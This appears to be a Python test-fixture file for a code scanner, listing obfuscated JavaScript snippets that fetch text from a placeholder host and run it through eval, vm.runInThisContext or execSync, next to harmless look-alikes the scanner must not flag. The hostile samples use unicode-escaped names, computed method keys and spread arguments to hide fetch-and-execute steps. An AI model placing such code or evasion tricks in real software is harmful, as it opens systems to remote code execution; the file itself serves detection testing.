"""Samples and twins of what is peculiar to JavaScript: how its names are spelt, its objects, streams and modules."""

from inspection.rules.sample import Sample, js

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "every name is spelt with escapes": js(
            "const { r\\u{75}nInThisContext: \\u{67}o } = r\\u{65}quire('vm');\n"
            "\\u{66}etch('https://a.invalid').then((\\u0074) => t.t\\u{65}xt()).then((\\u{74}) => g\\u{6f}(\\u0074));\n"
        ),
        "a name is exported with escapes": Sample(
            {
                "app.mjs": "import { \\u{6c}atest as a } from './n.mjs';\neval(await \\u0061());\n",
                "n.mjs": "export async function l\\u0061test() { return (await fetch('https://a.invalid')).text() }\n",
            },
            "block",
            ("app.mjs", 2),
        ),
        "methods are called by their keys": js(
            "const after = 'th' + 'en';\nfetch('https://a.invalid')[after]((r) => r['text']())[after](eval);\n"
        ),
        "arguments are spread out of a list of lists": js(
            "const [load] = [['vm']].map((names) => require(...names));\n"
            "fetch('https://a.invalid').then((r) => r.text()).then(load.runInThisContext);\n"
        ),
    },
    "remote_command": {
        "a list of arguments is spread": js(
            "const { execSync: go } = require('child_process');\n"
            "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((all) => go(...all)));\n"
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a name that is spelt with escapes and parses": {
            "app.js": "fetch('https://a.invalid').then((\\u0072) => r.text()).then(\\u0074 => JSON.p\\u{61}rse(t).x);\n"
        },
        "a method called by its key parses": {
            "app.js": "const k = 'th' + 'en';\nfetch('https://a.invalid')[k]((r) => r.text())[k](JSON.parse);\n"
        },
    },
    "remote_command": {
        "a list of arguments is spread to the console": {
            "app.js": "const { execSync: go } = require('child_process');\ngo('ls');\n"
            "fetch('https://a.invalid').then((r) => r.text()).then((t) => [[t]].forEach((a) => console.log(...a)));\n"
        },
    },
}
